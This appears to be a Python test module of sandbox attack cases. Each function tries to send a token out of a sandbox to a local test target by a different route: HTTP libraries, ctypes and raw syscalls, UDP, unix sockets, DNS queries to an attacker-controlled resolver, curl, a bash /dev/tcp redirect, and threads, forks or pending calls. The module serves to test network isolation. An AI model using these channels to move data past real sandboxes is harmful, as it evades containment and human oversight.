"""Attacks over the network: by library, by system call, and by other processes.

Each function imports its library itself, because each runs alone.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import subprocess
import threading

from hybrid_platform.sandbox import _linux
from hybrid_platform.sandbox.syscalls import RULES
from hybrid_platform_tests.sandbox.attacks.target import Surroundings

HOST = "127.0.0.1"
TIMEOUT_S = 0.3
NUMBERS = {rule.name: rule.number(_linux.machine() or "x86_64") for rule in RULES}


def _tcp(around: Surroundings) -> None:
    with socket.create_connection((HOST, around.target.tcp), timeout=5) as connection:
        connection.sendall(around.target.message)


def _sockaddr(port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(HOST) + bytes(8)


def urllib_request(around: Surroundings) -> None:
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    opener.open(f"http://{HOST}:{around.target.tcp}/{around.target.token}", timeout=TIMEOUT_S)


def http_client(around: Surroundings) -> None:
    import http.client

    connection = http.client.HTTPConnection(HOST, around.target.tcp, timeout=TIMEOUT_S)
    connection.request("GET", f"/{around.target.token}")
    connection.close()


def requests_get(around: Surroundings) -> None:
    import requests

    requests.get(f"http://{HOST}:{around.target.tcp}/{around.target.token}", timeout=TIMEOUT_S)


def asyncio_stream(around: Surroundings) -> None:
    import asyncio

    async def send() -> None:
        _, writer = await asyncio.open_connection(HOST, around.target.tcp)
        writer.write(around.target.message)
        await writer.drain()
        writer.close()

    asyncio.run(send())


def ctypes_connect(around: Surroundings) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    endpoint = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    libc.connect(endpoint, _sockaddr(around.target.tcp), 16)
    libc.send(endpoint, around.target.message, len(around.target.message), 0)
    libc.close(endpoint)


def raw_syscall(around: Surroundings) -> None:
    syscall = ctypes.CDLL(None, use_errno=True).syscall
    endpoint = syscall(NUMBERS["socket"], socket.AF_INET, socket.SOCK_STREAM, 0)
    syscall(NUMBERS["connect"], endpoint, _sockaddr(around.target.tcp), 16)
    syscall(NUMBERS["sendto"], endpoint, around.target.message, len(around.target.message), 0, None, 0)


def tcp_fast_open(around: Surroundings) -> None:
    with socket.socket() as endpoint:
        endpoint.sendto(around.target.message, socket.MSG_FASTOPEN, (HOST, around.target.tcp))


def udp(around: Surroundings) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as endpoint:
        endpoint.sendto(around.target.message, (HOST, around.target.udp))


def unix_socket(around: Surroundings) -> None:
    with socket.socket(socket.AF_UNIX) as endpoint:
        endpoint.connect(around.target.unix)
        endpoint.sendall(around.target.message)


def dns(around: Surroundings) -> None:
    """Query a name server of the attacker; the queried name is the message."""
    libc = ctypes.CDLL(None)
    libc.__res_state.restype = ctypes.c_void_p
    libc.__res_init()
    state = libc.__res_state()
    # struct __res_state: retrans, retry, options (8), nscount at 16, nsaddr_list at 20; one try, one second.
    ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)
    ctypes.memmove(state + 16, struct.pack("=i", 1) + _sockaddr(around.target.udp), 20)
    socket.getaddrinfo(f"{around.target.token}.example.", 80)


def curl_child(around: Surroundings) -> None:
    subprocess.run(["curl", "-s", "-m", "1", f"http://{HOST}:{around.target.tcp}/{around.target.token}"], check=False)


def bash_dev_tcp(around: Surroundings) -> None:
    script = f"echo {around.target.token} > /dev/tcp/{HOST}/{around.target.tcp}"
    subprocess.run(["bash", "-c", script], check=True)


def child_thread(around: Surroundings) -> None:
    thread = threading.Thread(target=_tcp, args=(around,))
    thread.start()
    thread.join()


def fork(around: Surroundings) -> None:
    child = os.fork()
    if child == 0:
        try:
            _tcp(around)
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def executor_hand_off(around: Surroundings) -> None:
    around.executor.submit(_tcp, around).result()


def pending_call(around: Surroundings) -> None:
    """Make the main thread do it, between two of its instructions."""
    done = threading.Event()
    errors: list[OSError] = []

    @ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)
    def call(_: object) -> int:
        try:
            _tcp(around)
        except OSError as error:
            errors.append(error)
        done.set()
        return 0

    ctypes.pythonapi.Py_AddPendingCall(call, None)
    if not done.wait(10):
        raise TimeoutError("the main thread did not run the call")
    if errors:
        raise errors[0]
